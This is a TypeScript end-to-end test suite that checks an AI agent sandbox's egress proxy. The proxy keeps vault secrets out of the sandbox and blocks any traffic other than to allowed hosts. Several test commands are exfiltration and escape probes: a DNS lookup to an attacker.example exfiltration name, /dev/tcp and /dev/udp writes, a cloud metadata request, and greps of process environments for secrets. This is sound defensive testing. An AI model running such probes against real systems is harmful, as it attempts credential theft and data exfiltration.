import { readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer as createHttpServer, type IncomingMessage, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type Anthropic from '@anthropic-ai/sdk';
import { afterAll, beforeAll, describe, expect, it, type TestContext } from 'vitest';
import { createCertificateAuthority } from '../src/egress/certificates.js';
import { createBwrapDriver } from '../src/sandbox/bwrap/bwrap-driver.js';
import type { SandboxDriver } from '../src/sandbox/driver.js';
import { createGvisorDriver, type GvisorDriver } from '../src/sandbox/gvisor/gvisor-driver.js';
import { createMicrovmDriver, type MicrovmDriver } from '../src/sandbox/microvm/microvm-driver.js';
import { startTestBerth, type TestBerth, UNLIMITED_LIMITS } from './support/berth-instance.js';
import { startOtlpReceiver } from './support/otlp-receiver.js';
import { sendAndWaitIdle } from './support/session-stream.js';

const SECRET = `canary-vault-secret-${process.pid}-${Date.now()}`;
const SERVER_CANARY = `canary-server-env-${process.pid}`;
const BEARER_SECRET = `canary-mcp-bearer-${process.pid}-${Date.now()}`;

/** Runs one bash command in the session's sandbox (the scripted bash-once agent) and returns its output. */
async function run(client: Anthropic, sessionId: string, command: string): Promise<string> {
  const seen = await sendAndWaitIdle(client, sessionId, [
    { type: 'user.message', content: [{ type: 'text', text: command }] },
  ]);
  const result = seen.find((event) => event.type === 'agent.tool_result');
  const content = (result?.content as { text?: string }[] | undefined) ?? [];
  return content.map((block) => block.text ?? '').join('');
}

interface Upstream {
  server: Server;
  port: number;
  seen: { authorization: string | undefined; host: string | undefined }[];
}

async function listen(server: Server, seen: Upstream['seen']): Promise<Upstream> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, seen, port: (server.address() as AddressInfo).port };
}

const echo =
  (seen: Upstream['seen']) => (request: IncomingMessage, response: import('node:http').ServerResponse) => {
    seen.push({ authorization: request.headers.authorization, host: request.headers.host });
    response.writeHead(200, { 'content-type': 'text/plain' });
    response.end(`upstream saw: ${request.headers.authorization ?? 'nothing'}\n`);
  };

/** A non-loopback address of this host, if it has one (the sandbox must not reach it either). */
function hostAddress(): string | undefined {
  for (const entries of Object.values(networkInterfaces())) {
    for (const entry of entries ?? []) if (!entry.internal && entry.family === 'IPv4') return entry.address;
  }
  return undefined;
}

/** The drivers this suite runs on, each with a factory to ask whether this host can run it. */
const DRIVERS: Record<string, () => SandboxDriver> = {
  bwrap: () => createBwrapDriver(),
  gvisor: () => createGvisorDriver(),
  // Not microvm: these tests go through the agent's bash tool, and the microvm guest is busybox
  // (no bash, curl or python). It has its own suite below, commands sent through the driver.
};

/**
 * Issue 4 end to end, on every driver (issue 14 item 24: the stronger isolations keep the same
 * single way out): a vault credential reaches an allowed upstream only through the egress
 * proxy, as a placeholder inside the sandbox; nothing else leaves the sandbox.
 */
describe.each(Object.keys(DRIVERS))('egress on %s: credentials never enter the sandbox', (driverName) => {
  let unavailable: string | undefined;
  const requireDriver = (context: TestContext) => {
    if (unavailable !== undefined) context.skip(`${driverName} is unavailable here: ${unavailable}`);
  };
  let berth: TestBerth;
  let directory: string;
  let secure: Upstream;
  let plain: Upstream;
  let notes: Upstream;
  let receiver: Awaited<ReturnType<typeof startOtlpReceiver>>;
  /** What the notes upstream stored (`/store`) and serves again (`/read`). */
  let stored = '';
  let bearerId: string;
  let sessionId: string;
  let placeholder: string;

  beforeAll(async () => {
    const probe = DRIVERS[driverName]!();
    const availability = await probe.checkAvailability();
    await (probe as Partial<GvisorDriver>).destroyAll?.();
    if (!availability.ok) {
      unavailable = availability.reason;
      return;
    }
    process.env.BERTH_TEST_SERVER_CANARY = SERVER_CANARY;
    directory = await mkdtemp(join(tmpdir(), 'berth-egress-e2e-'));
    const upstreamCa = await createCertificateAuthority('e2e upstream');
    const certificate = await upstreamCa.issue('api.test');
    writeFileSync(join(directory, 'upstream-ca.pem'), upstreamCa.certificatePem);
    const secureSeen: Upstream['seen'] = [];
    secure = await listen(
      createHttpsServer({ cert: certificate.certificatePem, key: certificate.keyPem }, echo(secureSeen)),
      secureSeen,
    );
    const plainSeen: Upstream['seen'] = [];
    plain = await listen(createHttpServer(echo(plainSeen)), plainSeen);
    // A host that stores what it is sent and serves it again (under any name), and answers in a
    // transfer-coding other than chunked.
    notes = await listen(
      createHttpServer((request, response) => {
        if (request.url === '/store') {
          stored = `${request.headers['x-note'] ?? ''} | ${request.headers.authorization ?? ''}`;
          response.end('stored\n');
        } else if (request.url === '/read') response.end(`stored: ${stored}\n`);
        else if (request.url === '/bearer') response.end(`token ${BEARER_SECRET}\n`);
        else if (request.url === '/coded') {
          response.writeHead(200, { 'transfer-encoding': 'gzip, chunked' });
          response.end(gzipSync(`you sent ${request.headers.authorization ?? ''}\n`));
        } else response.end('?\n');
      }),
      [],
    );
    receiver = await startOtlpReceiver();
    berth = await startTestBerth({
      environment: {
        ...UNLIMITED_LIMITS,
        OTEL_EXPORTER_OTLP_ENDPOINT: receiver.endpoint,
        OTEL_BSP_SCHEDULE_DELAY: '50',
        // The only driver, so every environment's default.
        BERTH_SANDBOX_DRIVERS: driverName,
        BERTH_SANDBOX_WARM_POOL: '0',
        BERTH_EGRESS_HOSTS: 'api.test=127.0.0.1,other.test=127.0.0.1,control.test=127.0.0.1',
        BERTH_EGRESS_ALLOW_PRIVATE: `127.0.0.1:${secure.port},127.0.0.1:${plain.port},127.0.0.1:${notes.port}`,
        BERTH_EGRESS_CA_FILE: join(directory, 'upstream-ca.pem'),
      },
    });
    const client = berth.client;
    const vault = await client.beta.vaults.create({ display_name: 'e2e' });
    await client.beta.vaults.credentials.create(vault.id, {
      display_name: 'api token',
      auth: {
        type: 'environment_variable',
        secret_name: 'API_TOKEN',
        secret_value: SECRET,
        networking: { type: 'limited', allowed_hosts: ['api.test'] },
      },
    });
    // A bearer token Berth sends to an MCP server: the sandbox never has it, not even a placeholder.
    bearerId = (
      await client.beta.vaults.credentials.create(vault.id, {
        display_name: 'mcp token',
        auth: { type: 'static_bearer', token: BEARER_SECRET, mcp_server_url: 'https://mcp.test/mcp' },
      })
    ).id;
    const agent = await client.beta.agents.create({
      name: 'egress',
      model: 'scripted/bash-once',
      tools: [{ type: 'agent_toolset_20260401' }],
    });
    const environment = await client.beta.environments.create({
      name: 'egress',
      config: {
        type: 'cloud',
        networking: {
          type: 'limited',
          allowed_hosts: ['api.test', 'other.test', 'control.test'],
        },
      },
    });
    const session = await client.beta.sessions.create({
      agent: agent.id,
      environment_id: environment.id,
      vault_ids: [vault.id],
    });
    sessionId = session.id;
    placeholder = (await run(client, sessionId, 'printf %s "$API_TOKEN"')).trim();
  }, 120_000);

  afterAll(async () => {
    delete process.env.BERTH_TEST_SERVER_CANARY;
    await berth?.dispose();
    secure?.server.close();
    plain?.server.close();
    notes?.server.close();
    await receiver?.close();
    await rm(directory, { recursive: true, force: true });
  });

  it('shows the sandbox a placeholder, and no canary anywhere inside', async (context) => {
    requireDriver(context);
    expect(placeholder).toMatch(/^berth_placeholder_[0-9a-f]+$/);
    // The control is found where it was put, so the search itself works on this driver.
    const control = `control-${process.pid}`;
    const search = await run(
      berth.client,
      sessionId,
      [
        `echo ${control}-found > /tmp/control.txt;`,
        `for needle in ${SECRET} ${SERVER_CANARY} ${control}-found; do`,
        '  env | grep -c "$needle";',
        '  cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c "$needle";',
        '  grep -rl "$needle" /workspace /tmp /home /run /etc 2>/dev/null | wc -l;',
        'done',
      ].join(' '),
    );
    expect(search.trim().split(/\s+/)).toEqual(['0', '0', '0', '0', '0', '0', '0', '0', '1']);
  });

  it('sends the real secret to the allowed host only, and the sandbox sees the placeholder back', async (context) => {
    requireDriver(context);
    const output = await run(
      berth.client,
      sessionId,
      `curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test:${secure.port}/ ; ` +
        `curl -sS -H "Authorization: Bearer $API_TOKEN" http://other.test:${plain.port}/`,
    );
    expect(secure.seen.at(-1)?.authorization).toBe(`Bearer ${SECRET}`);
    // The upstream echoed the secret; the sandbox got the placeholder.
    expect(output).toContain(`upstream saw: Bearer ${placeholder}`);
    expect(output).not.toContain(SECRET);
    // A host the credential does not name gets the placeholder, never the secret.
    expect(plain.seen.at(-1)?.authorization).toBe(`Bearer ${placeholder}`);
    // Audit events land as each request ends (not in the turn's order).
    const egressEvents = async () =>
      (await berth.store.events.read(berth.keyOf(sessionId)))
        .map((stored) => stored.event as unknown as Record<string, unknown>)
        .filter((event) => event.type === 'berth.egress_request');
    await expect
      .poll(async () =>
        (await egressEvents()).some((event) => event.host === 'api.test' && event.tls === 'intercepted'),
      )
      .toBe(true);
    // Nothing the sandbox or the proxy produced holds the secret (the test's own commands,
    // in user messages and tool inputs, name the canary to search for it).
    const produced = (await berth.store.events.read(berth.keyOf(sessionId)))
      .map((stored) => stored.event)
      .filter((event) => event.type !== 'user.message' && event.type !== 'agent.tool_use');
    expect(JSON.stringify(produced)).not.toContain(SECRET);
  });

  it('puts the secret only in credential headers, and scans what another host reads back', async (context) => {
    requireDriver(context);
    // Issue 14: a header the credential host stores (X-Note), read back from another allowed
    // host; and a secret legitimately sent (Authorization) that the host stores and serves again.
    const output = await run(
      berth.client,
      sessionId,
      `curl -sS -H "X-Note: $API_TOKEN" -H "Authorization: Bearer $API_TOKEN" http://api.test:${notes.port}/store; ` +
        `curl -sS http://other.test:${notes.port}/read; curl -sS http://other.test:${notes.port}/bearer`,
    );
    expect(stored).toBe(`${placeholder} | Bearer ${SECRET}`);
    expect(output).toContain(`stored: ${placeholder} | Bearer ${placeholder}`);
    // A vault secret the sandbox has no placeholder for is withheld as well.
    expect(output).toContain(`token berth_withheld_${bearerId}`);
    expect(output).not.toContain(SECRET);
    expect(output).not.toContain(BEARER_SECRET);
  });

  it('refuses an answer in a transfer-coding it cannot scan (gzip -dc finds no secret)', async (context) => {
    requireDriver(context);
    const output = await run(
      berth.client,
      sessionId,
      `curl -sS -o /tmp/coded -w "%{http_code}\\n" -H "Authorization: Bearer $API_TOKEN" http://api.test:${notes.port}/coded; ` +
        'cat /tmp/coded; gzip -dc < /tmp/coded 2>&1 | head -c 300',
    );
    expect(output).not.toContain(SECRET);
    expect(output).toMatch(/^502/);
    expect(output).toContain('transfer-encoding the proxy cannot check for secrets');
    const events = async () =>
      (await berth.store.events.read(berth.keyOf(sessionId)))
        .map((stored) => stored.event as unknown as Record<string, unknown>)
        .filter((event) => event.type === 'berth.egress_request' && event.path === '/coded');
    await expect.poll(async () => (await events()).at(-1)?.status).toBe(502);
  });

  it('counts the bytes that went through egress in session.usage', async (context) => {
    requireDriver(context);
    const log = async () => (await berth.store.events.read(berth.keyOf(sessionId))).map((stored) => stored);
    // The audits of the requests above land as each request ends: wait for them, then end a turn.
    await expect
      .poll(async () => (await log()).filter((stored) => stored.event.type === 'berth.egress_request').length)
      .toBeGreaterThanOrEqual(4);
    await run(berth.client, sessionId, 'true');
    const events = await log();
    const usage = events.findLast((stored) => stored.event.type === 'session.usage');
    expect(usage).toBeDefined();
    const audited = events
      .filter((stored) => stored.event.type === 'berth.egress_request' && stored.seq < usage!.seq)
      .reduce(
        (sum, stored) =>
          sum + Number(stored.event.bytes_sent ?? 0) + Number(stored.event.bytes_received ?? 0),
        0,
      );
    expect(audited).toBeGreaterThan(0);
    expect((usage!.event.berth as { egress_bytes: number }).egress_bytes).toBe(audited);
  });

  it('lets nothing else out: other hosts, addresses, raw sockets, DNS, the control plane', async (context) => {
    requireDriver(context);
    const before = secure.seen.length + plain.seen.length;
    const address = hostAddress();
    const berthPort = new URL(berth.url).port;
    const attempts = [
      // Not in allowed_hosts, by name and by address (through the proxy: refused).
      'curl -sS -o /dev/null -w "%{http_code}" http://example.com/',
      'curl -sS https://example.com/',
      `curl -sS -o /dev/null -w "%{http_code}" http://93.184.216.34/`,
      // Allowed names that resolve to the control plane's port, or literal host addresses.
      `curl -sS -o /dev/null -w "%{http_code}" http://control.test:${berthPort}/v1/agents`,
      `curl -sS -o /dev/null -w "%{http_code}" http://127.0.0.1:${berthPort}/v1/agents`,
      `curl -sS -o /dev/null -w "%{http_code}" http://[::1]:${berthPort}/v1/agents`,
      'curl -sS -o /dev/null -w "%{http_code}" http://169.254.169.254/latest/meta-data/',
      ...(address ? [`curl -sS -o /dev/null -w "%{http_code}" http://${address}:${berthPort}/`] : []),
      // Without the proxy: no route at all.
      `curl -sS --noproxy '*' --max-time 3 http://127.0.0.1:${secure.port}/`,
      `curl -sS --noproxy '*' --max-time 3 http://93.184.216.34/`,
      `echo hi > /dev/tcp/127.0.0.1/${berthPort}`,
      'echo hi > /dev/udp/8.8.8.8/53',
      'getent hosts exfil-c2VjcmV0.attacker.example || echo no-dns',
      // (A glob, not `ls PATH`: gVisor's statx quirk, docs/drivers/gvisor.md.)
      'cd /run/berth && echo *',
    ];
    // One line per attempt, whatever it printed on stdout and stderr.
    const output = await run(
      berth.client,
      sessionId,
      attempts.map((line) => `echo "$( (${line}) 2>&1 | tr '\\n' ' ')";`).join(' '),
    );
    const lines = output.split('\n');
    const refused = /^403|response 403|Couldn't connect|Failed to connect/;
    for (const [index, attempt] of attempts.entries()) {
      const line = lines[index] ?? '';
      if (attempt.startsWith('getent')) expect(line, attempt).toContain('no-dns');
      else if (attempt.startsWith('cd'))
        expect(line.trim().split(/\s+/).sort()).toEqual(['ca-bundle.pem', 'egress-ca.pem', 'egress.sock']);
      else if (attempt.startsWith('echo hi')) expect(line, attempt).toMatch(/refused|unreachable|no route/i);
      else expect(line, attempt).toMatch(refused);
    }
    expect(secure.seen.length + plain.seen.length).toBe(before);
    const denied = async () =>
      (await berth.store.events.read(berth.keyOf(sessionId)))
        .map((stored) => stored.event as unknown as Record<string, unknown>)
        .filter((event) => event.type === 'berth.egress_request' && event.decision === 'denied').length;
    await expect.poll(denied).toBeGreaterThanOrEqual(5);
  }, 60_000);

  it('traces every request of the sandbox under its tool call and counts the denials', async (context) => {
    requireDriver(context);
    // After the tests above: allowed requests (intercepted and plain) and refused ones.
    const spans = () => receiver.spans.filter((span) => span.name.startsWith('egress '));
    await receiver.waitForSpans(
      () => berth.telemetry.forceFlush(),
      () =>
        spans().some((span) => span.attributes['berth.egress.decision'] === 'denied') &&
        spans().some((span) => span.attributes['berth.egress.tls'] === 'intercepted'),
    );
    const intercepted = spans().find(
      (span) => span.attributes['berth.egress.tls'] === 'intercepted' && span.name === 'egress GET',
    )!;
    expect(intercepted).toBeDefined();
    expect(intercepted.kind).toBe(3); // CLIENT
    expect(intercepted.attributes).toMatchObject({
      'http.request.method': 'GET',
      'server.address': 'api.test',
      'http.response.status_code': 200,
      'berth.egress.decision': 'allowed',
      'berth.egress.purpose': 'sandbox',
      'berth.egress.credentials': 1,
      'berth.session.id': sessionId,
    });
    // Under the bash tool call that ran curl.
    const parent = receiver.spans.find((span) => span.spanId === intercepted.parentSpanId);
    expect(parent?.name).toBe('execute_tool bash');
    const denied = spans().find(
      (span) =>
        span.attributes['berth.egress.decision'] === 'denied' &&
        span.attributes['server.address'] === 'example.com',
    )!;
    expect(denied).toBeDefined();
    expect(denied.status.code).toBe(2); // ERROR
    expect(denied.attributes['http.response.status_code']).toBe(403);
    // No span carries a secret, a placeholder or a path.
    const exported = receiver.rawBodies.join('\n');
    expect(exported).not.toContain(SECRET);
    expect(exported).not.toContain(placeholder);
    expect(spans().some((span) => JSON.stringify(span.attributes).includes('/store'))).toBe(false);

    const metrics = await (await fetch(`${berth.url}/metrics`)).text();
    const sample = (series: string) =>
      Number(
        metrics
          .split('\n')
          .find((line) => line.startsWith(`${series} `))
          ?.split(' ')[1] ?? Number.NaN,
      );
    const deniedAudits = (await berth.store.events.read(berth.keyOf(sessionId))).filter(
      (stored) => stored.event.type === 'berth.egress_request' && stored.event.decision === 'denied',
    ).length;
    expect(sample('berth_egress_denied_total{source="sandbox",status="403"}')).toBe(deniedAudits);
    expect(sample('berth_egress_requests_total{source="sandbox",decision="allowed"}')).toBeGreaterThanOrEqual(
      4,
    );
    expect(sample('berth_egress_bytes_total{source="sandbox",direction="received"}')).toBeGreaterThan(0);
    expect(metrics).not.toContain('api.test');
  });

  it('swaps the placeholder for the secret in plain HTTP to the allowed host (wget this time)', async (context) => {
    requireDriver(context);
    const output = await run(
      berth.client,
      sessionId,
      `wget -q -O - --header "Authorization: Bearer $API_TOKEN" http://api.test:${plain.port}/`,
    );
    expect(plain.seen.at(-1)?.authorization).toBe(`Bearer ${SECRET}`);
    expect(output).toContain(`upstream saw: Bearer ${placeholder}`);
    expect(output).not.toContain(SECRET);
  });

  it('keeps the vault file and the server environment out of reach', (context) => {
    requireDriver(context);
    // The server's own environment had the canary the whole time (checked from inside above).
    expect(process.env.BERTH_TEST_SERVER_CANARY).toBe(SERVER_CANARY);
    expect(readFileSync(join(berth.dataDir, 'vault.key'), 'utf8')).not.toContain(SECRET);
  });
});

/**
 * The same way out on the microvm driver, whose busybox guest has no bash for the agent's bash
 * tool: a real server and session (vault, networking, egress proxy started by the sandbox
 * manager), with commands run through the session's sandbox driver and busybox `wget`.
 */
describe('egress on microvm: credentials never enter the sandbox', () => {
  let unavailable: string | undefined;
  let berth: TestBerth;
  let plain: Upstream;
  let sessionId: string;
  let shell: (command: string) => Promise<string>;

  beforeAll(async () => {
    const probe = createMicrovmDriver();
    const availability = await probe.checkAvailability();
    await (probe as MicrovmDriver).destroyAll();
    if (!availability.ok) {
      unavailable = availability.reason;
      return;
    }
    process.env.BERTH_TEST_SERVER_CANARY = SERVER_CANARY;
    const plainSeen: Upstream['seen'] = [];
    plain = await listen(createHttpServer(echo(plainSeen)), plainSeen);
    berth = await startTestBerth({
      environment: {
        ...UNLIMITED_LIMITS,
        BERTH_SANDBOX_DRIVERS: 'microvm',
        BERTH_EGRESS_HOSTS: 'api.test=127.0.0.1,other.test=127.0.0.1',
        BERTH_EGRESS_ALLOW_PRIVATE: `127.0.0.1:${plain.port}`,
      },
    });
    const client = berth.client;
    const vault = await client.beta.vaults.create({ display_name: 'e2e' });
    await client.beta.vaults.credentials.create(vault.id, {
      display_name: 'api token',
      auth: {
        type: 'environment_variable',
        secret_name: 'API_TOKEN',
        secret_value: SECRET,
        networking: { type: 'limited', allowed_hosts: ['api.test'] },
      },
    });
    const agent = await client.beta.agents.create({ name: 'egress', model: 'scripted/echo' });
    const environment = await client.beta.environments.create({
      name: 'egress',
      config: { type: 'cloud', networking: { type: 'limited', allowed_hosts: ['api.test', 'other.test'] } },
    });
    const created = await client.beta.sessions.create({
      agent: agent.id,
      environment_id: environment.id,
      vault_ids: [vault.id],
    });
    sessionId = created.id;
    const session = (await berth.store.resources.getSession('tnt_default', created.id))!;
    const handle = await berth.sandboxes.access(session).get();
    const driver = berth.sandboxes.driverOf(berth.keyOf(created.id))!;
    shell = async (command) => {
      const result = await driver.exec(handle, ['sh', '-c', `exec 2>&1; ${command}`], { timeoutMs: 60_000 });
      return result.stdout;
    };
  }, 180_000);

  afterAll(async () => {
    delete process.env.BERTH_TEST_SERVER_CANARY;
    await berth?.dispose();
    plain?.server.close();
  });

  it('sends the secret to the allowed host only, shows the sandbox the placeholder, and lets nothing else out', async (context) => {
    if (unavailable !== undefined) context.skip(`microvm is unavailable here: ${unavailable}`);
    const placeholder = (await shell('printf %s "$API_TOKEN"')).trim();
    expect(placeholder).toMatch(/^berth_placeholder_[0-9a-f]+$/);
    const allowed = await shell(
      `wget -q -O - --header "Authorization: Bearer $API_TOKEN" http://api.test:${plain.port}/`,
    );
    expect(plain.seen.at(-1)?.authorization).toBe(`Bearer ${SECRET}`);
    expect(allowed).toContain(`upstream saw: Bearer ${placeholder}`);
    // A host the credential does not name gets the placeholder; a host outside allowed_hosts,
    // an address and the host's loopback are refused by the proxy; nothing leaves without it.
    await shell(`wget -q -O - --header "Authorization: Bearer $API_TOKEN" http://other.test:${plain.port}/`);
    expect(plain.seen.at(-1)?.authorization).toBe(`Bearer ${placeholder}`);
    const before = plain.seen.length;
    const refused = await shell(
      [
        'wget -q -O - http://example.com/ || echo refused-1',
        `wget -q -O - http://127.0.0.1:${plain.port}/ || echo refused-2`,
        `http_proxy= wget -q -T 3 -O - http://127.0.0.1:${plain.port}/ || echo refused-3`,
        'nslookup example.com >/dev/null 2>&1 || echo refused-4',
      ].join('; '),
    );
    for (const mark of ['refused-1', 'refused-2', 'refused-3', 'refused-4']) expect(refused).toContain(mark);
    expect(plain.seen.length).toBe(before);
    // No canary anywhere inside (the control is found, so the search works), and the trust
    // files are where the environment says.
    const search = await shell(
      [
        `echo control-${process.pid}-found > /tmp/control.txt;`,
        `for needle in ${SECRET} ${SERVER_CANARY} control-${process.pid}-found; do`,
        '  env | grep -c "$needle";',
        '  cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c "$needle";',
        '  grep -rl "$needle" /workspace /tmp /home /run /etc 2>/dev/null | wc -l;',
        'done;',
        'test -s "$SSL_CERT_FILE" && grep -c "BEGIN CERTIFICATE" "$NODE_EXTRA_CA_CERTS"',
      ].join(' '),
    );
    expect(search.trim().split(/\s+/)).toEqual(['0', '0', '0', '0', '0', '0', '0', '0', '1', '1']);
    // Audited like any session's requests: the swap by credential name, the refusals.
    const audit = async () =>
      (await berth.store.events.read(berth.keyOf(sessionId)))
        .map((stored) => stored.event as unknown as Record<string, unknown>)
        .filter((event) => event.type === 'berth.egress_request');
    await expect
      .poll(async () =>
        (await audit()).some((event) => event.host === 'api.test' && event.decision === 'allowed'),
      )
      .toBe(true);
    expect((await audit()).some((event) => event.decision === 'denied')).toBe(true);
  }, 180_000);
});
